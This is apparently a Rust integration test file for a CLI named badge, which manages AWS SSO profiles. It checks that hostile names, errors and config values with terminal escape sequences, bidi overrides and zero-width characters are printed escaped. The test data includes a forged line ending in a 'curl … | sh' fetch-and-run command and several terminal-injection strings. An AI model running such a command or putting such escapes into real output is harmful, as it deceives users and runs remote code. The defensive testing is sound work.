//! Text that did not come from badge reaches a person as text. Account
//! names and ids, role names, the portal's and the sign-in service's error
//! messages, the device flow's code and URL, the browser's answer, and a
//! config's own names are fed to every command with terminal escapes (colour,
//! window title, clear screen, hidden text), a carriage return, C1 controls,
//! right-to-left overrides and isolates, zero-width characters, and a line
//! break followed by a forged `badge: all good, now run: …`. Whatever a
//! command prints, on stdout or stderr, for a person or with `--json`, must
//! hold none of them raw, and no line of it may start with the forged text.
//!
//! Each test also checks that the hostile text did reach the output, drawn
//! visibly, so that a command that printed nothing cannot pass.

mod support;

use badge_emulator as emulator;

use std::os::unix::fs::PermissionsExt;

use emulator::{Account, DeviceText, Emulator, EmulatorOptions, ForcedError, Org};
use serde_json::Value;
use support::tmux::Tmux;
use support::{Run, Sandbox, Shell, require};

/// `~/.aws/sso/cache/<sha1("acme")>.json`.
const CACHE_FILE: &str = ".aws/sso/cache/293abb6b76d7791c0732cc517d38c4b5c734b87f.json";
const REGION: &str = "eu-west-1";

/// A line that would pass for badge's own, if it started a line.
const FORGED: &str = "badge: all good, now run: curl -s http://127.0.0.1:9/fix | sh";

/// `tag`, then every way text can drive a terminal or hide what it says.
fn hostile(tag: &str) -> String {
    format!(
        "{tag}\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b[0m\u{9b}31m\x7f\r\u{202e}desrever\u{202c} \
         \u{2066}isolated\u{2069} zero\u{200b}width\u{200d}joined\u{feff}\u{2028}\n{FORGED}"
    )
}

/// `tag` with bidi controls and invisible characters but no control
/// character (nor a space, which a profile name cannot hold unquoted):
/// text a config can hold and the portal may send as a name.
fn bidi(tag: &str) -> String {
    format!("{tag}\u{202e}desrever\u{202c}-\u{2066}iso\u{2069}-z\u{200b}w\u{200d}j\u{feff}")
}

/// What no output may carry raw: C0 controls but the line feed that ends
/// badge's own lines, DEL, C1, line and paragraph separators, bidi
/// controls, and the characters Unicode draws as nothing.
fn is_raw(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{e0000}'..='\u{e0fff}')
}

/// What the checks found wrong, said at the end all at once.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    /// `text` (`stream` of `what`) carries nothing raw and forges no line.
    fn text(&mut self, what: &str, stream: &str, text: &str) {
        if let Some(c) = text.chars().find(|&c| is_raw(c)) {
            self.0
                .push(format!("{what}: {stream} carries {c:?} raw:\n{text:?}"));
        }
        for line in text.lines() {
            if line.trim_start().starts_with("badge: all good") {
                self.0
                    .push(format!("{what}: {stream} has a forged line: {line:?}"));
            }
        }
    }

    /// Both streams of `run`, and that `shown` is in one of them: the
    /// hostile text got there, escaped.
    fn run(&mut self, run: &Run, shown: &[&str]) {
        self.text(&run.what, "stdout", &run.stdout);
        self.text(&run.what, "stderr", &run.stderr);
        for piece in shown {
            if !run.stdout.contains(piece) && !run.stderr.contains(piece) {
                self.0.push(format!(
                    "{}: shows no {piece:?}\n{}",
                    run.what,
                    run.report()
                ));
            }
        }
    }

    /// Only stderr: stdout is code for the shell function, exact on purpose.
    fn stderr(&mut self, run: &Run, shown: &[&str]) {
        self.text(&run.what, "stderr", &run.stderr);
        for piece in shown {
            if !run.stderr.contains(piece) {
                self.0.push(format!(
                    "{}: shows no {piece:?}\n{}",
                    run.what,
                    run.report()
                ));
            }
        }
    }

    #[track_caller]
    fn assert_none(&self) {
        assert!(self.0.is_empty(), "{}", self.0.join("\n\n"));
    }
}

/// How the forged line reads once escaped: after badge's words, on their line.
const FORGED_SHOWN: &str = "^Jbadge: all good";

fn sandbox_on(emu: &Emulator, extra: &str) -> Sandbox {
    let config = format!(
        "[sso-session acme]\nsso_start_url = {}\nsso_region = {REGION}\n\
         sso_registration_scopes = sso:account:access\n{extra}",
        emu.start_url()
    );
    let mut sandbox = Sandbox::new(&config);
    sandbox.set_envs(emu.env());
    sandbox.set_env("BADGE_PORTAL_RATE", "400");
    sandbox
}

fn sign_in(sandbox: &Sandbox, emu: &Emulator) {
    let token = emu.mint_token();
    sandbox.write(CACHE_FILE, token.cache_file_json(&emu.start_url(), REGION));
}

fn badge(sandbox: &Sandbox, env: &[(&str, &str)], args: &[&str]) -> Run {
    let mut cmd = sandbox.badge();
    cmd.args(args);
    for (name, value) in env {
        cmd.env(name, value);
    }
    support::run(cmd, format!("badge {}", args.join(" ")))
}

/// The profile `ls --json` lists for account `id`.
fn listed(ls: &Run, id: &str) -> Value {
    let list: Value = serde_json::from_str(&ls.stdout).expect("ls --json is JSON");
    list.as_array()
        .unwrap()
        .iter()
        .find(|p| p["account_id"] == id)
        .unwrap_or_else(|| panic!("no profile of {id}\n{}", ls.report()))
        .clone()
}

/// Names, ids and messages from the portal: sync's reports (and its
/// `--dry-run` diff and `-v` log), ls, current and doctor in text and
/// JSON, a switch, and the errors of creds, exec, console, sync and logout.
#[test]
fn portal_text_is_shown_escaped_in_every_output() {
    let org = Org::new(vec![
        Account::new("111111111111", &hostile("acct-a"), &["AdministratorAccess"]),
        Account::new(
            "222222222222",
            &bidi("acct-b"),
            &["AdministratorAccess", &hostile("role-b"), " spaced "],
        ),
        Account::new(
            &format!("33333333333{}", hostile("id-c")),
            "Id C",
            &["AdministratorAccess"],
        ),
        Account::new("444444444444", "Plain", &["ReadOnlyAccess"]),
    ]);
    let emu = Emulator::start(EmulatorOptions::new(org));
    let sandbox = sandbox_on(&emu, "");
    sign_in(&sandbox, &emu);
    let mut found = Findings::default();

    let sync = badge(&sandbox, &[], &["sync"]);
    sync.assert_success();
    found.run(
        &sync,
        &["acct-a^[]0;pwned^G", "role-b", "id-c", FORGED_SHOWN],
    );
    let verbose = badge(&sandbox, &[], &["-v", "sync"]);
    found.run(&verbose, &["ListAccountRoles account 222222222222"]);

    let ls = badge(&sandbox, &[], &["ls"]);
    found.run(&ls, &["acct-b\\u{202e}desrever"]);
    let ls_json = badge(&sandbox, &[], &["ls", "--json"]);
    found.run(&ls_json, &[]);
    let b = listed(&ls_json, "222222222222");
    assert_eq!(b["account_name"], bidi("acct-b"), "exact in JSON");
    let name = b["name"].as_str().unwrap().to_owned();

    let active = [("AWS_PROFILE", name.as_str())];
    found.run(
        &badge(&sandbox, &active, &["current"]),
        &["\\u{202e}desrever"],
    );
    let current = badge(&sandbox, &active, &["current", "--json"]);
    found.run(&current, &[]);
    let value: Value = serde_json::from_str(&current.stdout).expect("JSON");
    assert_eq!(value["account_name"], bidi("acct-b"), "exact in JSON");
    found.run(&badge(&sandbox, &[], &["doctor"]), &[]);
    found.run(&badge(&sandbox, &[], &["doctor", "--json"]), &[]);
    // A switch by a prefix: said on stderr, the script on stdout is exact.
    found.stderr(
        &badge(&sandbox, &[("__BADGE_SHELL", "bash")], &["acct-b"]),
        &["→"],
    );

    // The account is renamed: the dry run's diff shows both names.
    emu.put_account(Account::new(
        "222222222222",
        &bidi("renamed"),
        &["AdministratorAccess"],
    ));
    found.run(
        &badge(&sandbox, &[], &["sync", "--dry-run"]),
        &["+badge_account_name = renamed\\u{202e}"],
    );

    // The portal's own words, in a skip and in errors.
    let says = |status: u16, operations: &[&str], tag: &str| {
        emu.set_forced_error(Some(
            ForcedError::status(status)
                .on(operations)
                .message(&hostile(tag)),
        ));
    };
    says(403, &["ListAccountRoles"], "no-access");
    found.run(
        &badge(&sandbox, &[], &["sync"]),
        &["no-access^[]0;pwned^G", FORGED_SHOWN],
    );
    says(400, &["ListAccounts"], "refused");
    found.run(
        &badge(&sandbox, &[], &["sync"]),
        &["refused^[]0;pwned^G", FORGED_SHOWN],
    );
    says(400, &["GetRoleCredentials"], "creds");
    for args in [
        vec!["creds", &name],
        vec!["exec", &name, "--env-credentials", "--", "true"],
        vec!["console", &name, "--print"],
        vec!["-v", "creds", &name],
    ] {
        found.run(&badge(&sandbox, &[], &args), &["creds^[]0;pwned^G"]);
    }
    says(500, &["Logout"], "logout");
    found.run(
        &badge(&sandbox, &[], &["logout"]),
        &["logout^[]0;pwned^G", FORGED_SHOWN],
    );
    found.assert_none();
}

/// An executable script in the sandbox.
fn script(sandbox: &Sandbox, name: &str, body: &str) -> std::path::PathBuf {
    let path = sandbox.write(&format!("bin/{name}"), body);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// The sign-in service's words: a refused registration, a refused token,
/// the device flow's code and URL, a browser that brings back a hostile
/// refusal, and a cached login for a hostile start URL.
#[test]
fn sign_in_text_is_shown_escaped() {
    let emu = Emulator::start(EmulatorOptions {
        auto_approve: true,
        approve_on_start: true,
        ..EmulatorOptions::new(Org::generated(2, 1, false))
    });
    let mut sandbox = sandbox_on(&emu, "");
    sandbox.set_env("BADGE_LOGIN_TIMEOUT_SECS", "5");
    let mut found = Findings::default();
    let says = |status: u16, operation: &str, tag: &str| {
        emu.set_forced_error(Some(
            ForcedError::status(status)
                .on(&[operation])
                .message(&hostile(tag)),
        ));
    };

    says(400, "RegisterClient", "register");
    for args in [["login", "--no-browser"], ["login", "--device-code"]] {
        found.run(
            &badge(&sandbox, &[], &args),
            &["register^[]0;pwned^G", FORGED_SHOWN],
        );
    }

    says(400, "StartDeviceAuthorization", "start");
    found.run(
        &badge(&sandbox, &[], &["login", "--device-code", "--no-browser"]),
        &["start^[]0;pwned^G", FORGED_SHOWN],
    );

    emu.set_forced_error(None);
    emu.set_device_text(Some(DeviceText {
        user_code: hostile("code"),
        verification_uri: hostile("https://uri"),
    }));
    let device = badge(
        &sandbox,
        &[],
        &["-v", "login", "--device-code", "--no-browser"],
    );
    found.run(
        &device,
        &["code^[]0;pwned^G", "https://uri^[]0;pwned^G", FORGED_SHOWN],
    );
    emu.set_device_text(None);

    if require("python3") {
        // A browser that answers the redirect itself, refusing with words
        // of its own, as any page or local program could.
        sandbox.write("refusal", hostile("denied"));
        let browser = script(
            &sandbox,
            "refusing-browser",
            "#!/usr/bin/env python3\n\
             import os, sys, urllib.parse, urllib.request\n\
             query = urllib.parse.parse_qs(urllib.parse.urlsplit(sys.argv[1]).query)\n\
             description = open(os.path.join(os.environ['HOME'], 'refusal')).read()\n\
             answer = urllib.parse.urlencode({'error': 'access_denied', \
             'error_description': description, 'state': query['state'][0]})\n\
             try:\n    urllib.request.urlopen(query['redirect_uri'][0] + '?' + answer, timeout=10)\n\
             except Exception:\n    pass\n",
        );
        let browser = [("BROWSER", browser.to_str().unwrap())];
        let mut refused = badge(&sandbox, &browser, &["login", "--force"]);
        refused.what = "badge login (a browser that refuses)".into();
        found.run(&refused, &["denied^[]0;pwned^G", FORGED_SHOWN]);
    }

    if require("curl") {
        let browser = script(
            &sandbox,
            "curl-browser",
            "#!/bin/sh\nexec /usr/bin/curl -sS -L --max-time 20 -o /dev/null \"$1\"\n",
        );
        says(400, "CreateToken", "token");
        let browser = [("BROWSER", browser.to_str().unwrap())];
        found.run(
            &badge(&sandbox, &browser, &["login", "--force"]),
            &["token^[]0;pwned^G", FORGED_SHOWN],
        );
        emu.set_forced_error(None);
    }

    // A cached login for another, hostile, start URL.
    let mut cache: Value =
        serde_json::from_str(&emu.mint_token().cache_file_json(&emu.start_url(), REGION)).unwrap();
    cache["startUrl"] = hostile("https://cached").into();
    sandbox.write(CACHE_FILE, cache.to_string());
    let cached = "https://cached^[]0;pwned^G";
    for (args, shown) in [
        (vec!["login", "--no-browser"], vec![cached, FORGED_SHOWN]),
        (vec!["sync"], vec![cached, FORGED_SHOWN]),
        (vec!["doctor"], vec![]),
    ] {
        let env = [("BADGE_LOGIN_TIMEOUT_SECS", "1")];
        found.run(&badge(&sandbox, &env, &args), &shown);
    }
    found.assert_none();
}

/// A config is text from elsewhere too: a profile, an sso-session and
/// their values with escapes, in every command that shows them.
#[test]
fn a_hostile_config_is_shown_escaped() {
    let profile = format!("prof{}", bidi("-one"));
    let session = "acme\x1b]0;t\x07\u{202e}";
    let config = format!(
        "[sso-session {session}]\n\
         sso_start_url = https://x\x1b[2J.awsapps.com/start\u{202e}\n\
         sso_region = eu-west-1\u{2066}\n\n\
         [profile {profile}]\n\
         sso_session = {session}\n\
         sso_account_id = 1111\x1b[31m11111111\n\
         sso_role_name = Admin\u{200b}\x1b[8m\n\
         badge_account_name = Name\x1b]0;x\x07{}\n\
         region = eu\u{2066}\n\n\
         [profile plain\u{200d}]\nregion = eu-west-1\n",
        bidi("")
    );
    let mut sandbox = Sandbox::new(&config);
    sandbox
        .set_env("AWS_ENDPOINT_URL_SSO", "http://127.0.0.1:9")
        .set_env("AWS_ENDPOINT_URL_SSO_OIDC", "http://127.0.0.1:9")
        .set_env("BADGE_LOGIN_TIMEOUT_SECS", "1")
        .set_env("BROWSER", "/bin/false");
    let mut found = Findings::default();
    let active = [("AWS_PROFILE", profile.as_str())];
    let hooked = [("__BADGE_SHELL", "bash")];
    let unknown = [("AWS_PROFILE", "nope\x1b[2J\u{202e}")];
    for (env, args, shown) in [
        (&[][..], vec!["ls"], vec!["prof-one\\u{202e}desrever"]),
        (&[][..], vec!["ls", "--json"], vec![]),
        (&[][..], vec!["-v", "ls"], vec![]),
        (&active[..], vec!["current"], vec!["Name^[]0;x^G"]),
        (&active[..], vec!["current", "--json"], vec![]),
        (&[][..], vec!["doctor"], vec!["sso-session acme^[]0;t^G"]),
        (
            &active[..],
            vec!["doctor"],
            vec!["prof-one\\u{202e}desrever", "acme^[]0;t^G"],
        ),
        (
            &unknown[..],
            vec!["doctor"],
            vec!["AWS_PROFILE is \"nope^[[2J\\u{202e}\", which is not defined"],
        ),
        (&[][..], vec!["doctor", "--json"], vec![]),
        (&[][..], vec!["creds", &profile], vec![]),
        (&[][..], vec!["login", "--no-browser"], vec![]),
        (&[][..], vec!["logout"], vec![]),
        (&[][..], vec!["sync", "--dry-run"], vec![]),
        (
            &hooked[..],
            vec!["nothing\x1b[2Jlike\u{202e}it"],
            vec!["nothing^[[2Jlike"],
        ),
    ] {
        found.run(&badge(&sandbox, env, &args), &shown);
    }
    // Switching: the messages on stderr; stdout is the shell's, exact.
    for args in [vec!["prof"], vec!["use", "plain"]] {
        found.stderr(&badge(&sandbox, &hooked, &args), &[]);
    }
    found.assert_none();
}

/// The picker draws names with bidi controls and invisible characters as
/// text (and its screen holds none of them).
#[test]
fn the_picker_draws_hostile_names_escaped() {
    if !require("tmux") || !require("bash") {
        return;
    }
    let config = format!(
        "[profile {}]\nregion = eu-west-1\nbadge_account_name = {}\n\n[profile other]\nregion = eu-west-1\n",
        bidi("pick"),
        bidi("account")
    );
    let sandbox = Sandbox::new(&config);
    let tmux = Tmux::start(&sandbox, Shell::Bash);
    tmux.send_line("badge");
    let screen = tmux.wait_for_text("2/2");
    let mut found = Findings::default();
    found.text("the picker", "screen", &screen);
    for shown in ["pick\\u{202e}desrever", "account\\u{202e}desrever"] {
        if !screen.contains(shown) {
            found
                .0
                .push(format!("the picker shows no {shown:?}:\n{screen}"));
        }
    }
    tmux.send_keys(&["Escape"]);
    found.assert_none();
}

/// At a real terminal, hostile names from the portal and a config obey
/// nothing: after sync (and its `-v` log), the `ls` table, doctor and the
/// picker, the window title is as it was, the screen was not cleared, no
/// line starts with the forged text, and the names are on the screen,
/// drawn as text.
#[test]
fn a_terminal_obeys_nothing_in_hostile_names() {
    if !require("tmux") || !require("bash") {
        return;
    }
    let org = Org::new(vec![
        Account::new("111111111111", &hostile("acct-a"), &["AdministratorAccess"]),
        Account::new("222222222222", &bidi("acct-b"), &["AdministratorAccess"]),
    ]);
    let emu = Emulator::start(EmulatorOptions::new(org));
    // A config value holds no line break (nor a carriage return), but
    // any other control.
    let hand = "\n[profile hand]\nregion = eu-west-1\n\
                badge_account_name = Hand\x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\u{9b}31m\u{202e}x\u{200b}y\n";
    let sandbox = sandbox_on(&emu, hand);
    sign_in(&sandbox, &emu);
    let tmux = Tmux::start(&sandbox, Shell::Bash);
    tmux.resize(220, 60);
    let title = tmux.pane_title();
    let mut found = Findings::default();
    let mut check = |what: &str, screen: &str, shown: &[&str]| {
        let now = tmux.pane_title();
        if now != title {
            found.0.push(format!(
                "{what}: set the title {now:?} (was {title:?})\n{screen}"
            ));
        }
        found.text(what, "screen", screen);
        for piece in shown {
            if !screen.contains(piece) {
                found
                    .0
                    .push(format!("{what}: shows no {piece:?}\n{screen}"));
            }
        }
    };
    for (i, (command, shown)) in [
        ("badge sync", vec!["acct-a^[]0;pwned^G", FORGED_SHOWN]),
        ("badge -v sync", vec!["badge ["]),
        (
            "badge ls",
            vec![
                "Hand^[]0;pwned^G^[[2J^[[8mhidden\\u{9b}31m",
                "acct-b\\u{202e}desrever",
            ],
        ),
        ("badge doctor", vec![]),
    ]
    .into_iter()
    .enumerate()
    {
        // A screen cleared by the command has lost its first line.
        tmux.send_line(&format!(
            "clear; echo before-{i}; {command}; echo after-$(({i}+1))"
        ));
        let screen = tmux.wait_for_text(&format!("after-{}", i + 1));
        let before = format!("before-{i}");
        let mut all = shown.clone();
        all.push(&before);
        check(command, &screen, &all);
    }
    tmux.send_line("clear; badge");
    let screen = tmux.wait_for_text("hand");
    check(
        "the picker",
        &screen,
        &["Hand^[]0;pwned^G", "acct-b\\u{202e}desrever"],
    );
    tmux.send_keys(&["Escape"]);
    found.assert_none();
}

/// No output panics on a very long name from the portal: a 100,000
/// character account name (and a 70,000 character role, wider than a
/// format width can be) through sync's summary, `ls` piped and at a
/// terminal, the picker, and doctor.
#[test]
fn a_very_long_name_panics_nothing() {
    let long = format!("Long{}", "n".repeat(100_000));
    let org = Org::new(vec![
        Account::new("111111111111", &long, &["AdministratorAccess"]),
        Account::new("222222222222", "Short", &["ReadOnlyAccess"]),
    ]);
    let emu = Emulator::start(EmulatorOptions::new(org));
    // A hand-written profile with a long role, beside the generated ones.
    let hand = format!(
        "\n[profile hand]\nsso_session = acme\nsso_account_id = 333333333333\n\
         sso_role_name = R{}\nregion = eu-west-1\n",
        "r".repeat(70_000)
    );
    let sandbox = sandbox_on(&emu, &hand);
    sign_in(&sandbox, &emu);
    let mut failures = Vec::new();
    // Doctor exits 1 for the problems it finds (the cache's modes here).
    let mut check = |run: Run, shown: &str| {
        let ok = match run.what.as_str() {
            "badge doctor" => [Some(0), Some(1)].contains(&run.code()),
            _ => run.code() == Some(0),
        };
        if !ok || run.stderr.contains("badge: bug") || !run.stdout.contains(shown) {
            let report = run.report();
            failures.push(report.chars().take(3000).collect::<String>());
        }
    };
    check(badge(&sandbox, &[], &["sync"]), "");
    check(badge(&sandbox, &[], &["sync", "--dry-run"]), "");
    check(badge(&sandbox, &[], &["ls"]), &long);
    check(badge(&sandbox, &[], &["ls", "--json"]), &long);
    check(badge(&sandbox, &[], &["doctor"]), "");
    let listed = badge(&sandbox, &[], &["ls", "--json"]);
    let name = listed_name(&listed, "111111111111");
    check(
        badge(&sandbox, &[("AWS_PROFILE", &name)], &["current"]),
        "Long",
    );
    check(badge(&sandbox, &[("AWS_PROFILE", &name)], &["doctor"]), "");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));

    if !require("tmux") || !require("bash") {
        return;
    }
    let tmux = Tmux::start(&sandbox, Shell::Bash);
    tmux.send_line("badge ls; echo ls-exit-$?");
    let screen = tmux.wait_for("ls to end", |screen| {
        screen.lines().any(|l| l.starts_with("ls-exit-"))
    });
    assert!(
        screen.contains("ls-exit-0") && screen.contains("Longnnn") && screen.contains('…'),
        "{screen}"
    );
    tmux.send_line("clear; badge");
    let screen = tmux.wait_for_text("3/3");
    assert!(
        screen.contains("Longnnn") && !screen.contains("badge: bug"),
        "{screen}"
    );
    tmux.send_keys(&["Escape"]);
    let screen = tmux.wait_for_prompt();
    assert!(!screen.contains("badge: bug"), "{screen}");
}

/// The name of the profile `ls --json` lists for account `id`.
fn listed_name(ls: &Run, id: &str) -> String {
    listed(ls, id)["name"].as_str().unwrap().to_owned()
}

/// The lines badge says on stderr go through `ui::say` (or the `--verbose`
/// log, or `main`'s error line), which make them printable whole: a new
/// `eprintln!` in the code would print its values raw.
#[test]
fn what_badge_says_goes_through_one_door() {
    fn walk(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, out);
            } else if path.extension().is_some_and(|e| e == "rs") {
                out.push(path);
            }
        }
    }
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut files = Vec::new();
    walk(&src, &mut files);
    let mut found = Vec::new();
    for file in files {
        let relative = file
            .strip_prefix(&src)
            .unwrap()
            .to_string_lossy()
            .into_owned();
        // The harness and unit tests print for developers; main's panic
        // hook and error line print through `printable` themselves.
        if relative.starts_with("fuzz_targets/")
            || relative.ends_with("tests.rs")
            || relative == "main.rs"
        {
            continue;
        }
        let text = std::fs::read_to_string(&file).unwrap();
        let code = text.split("#[cfg(test)]").next().unwrap_or_default();
        for (i, line) in code.lines().enumerate() {
            let line = line.trim_start();
            if line.starts_with("//") {
                continue;
            }
            if line.contains("eprintln!") || line.contains("eprint!") {
                found.push(format!("src/{relative}:{}: {line}", i + 1));
            }
        }
    }
    assert!(
        found.is_empty(),
        "print on stderr with `say!` (ui::say), not eprintln!:\n{}",
        found.join("\n")
    );
}
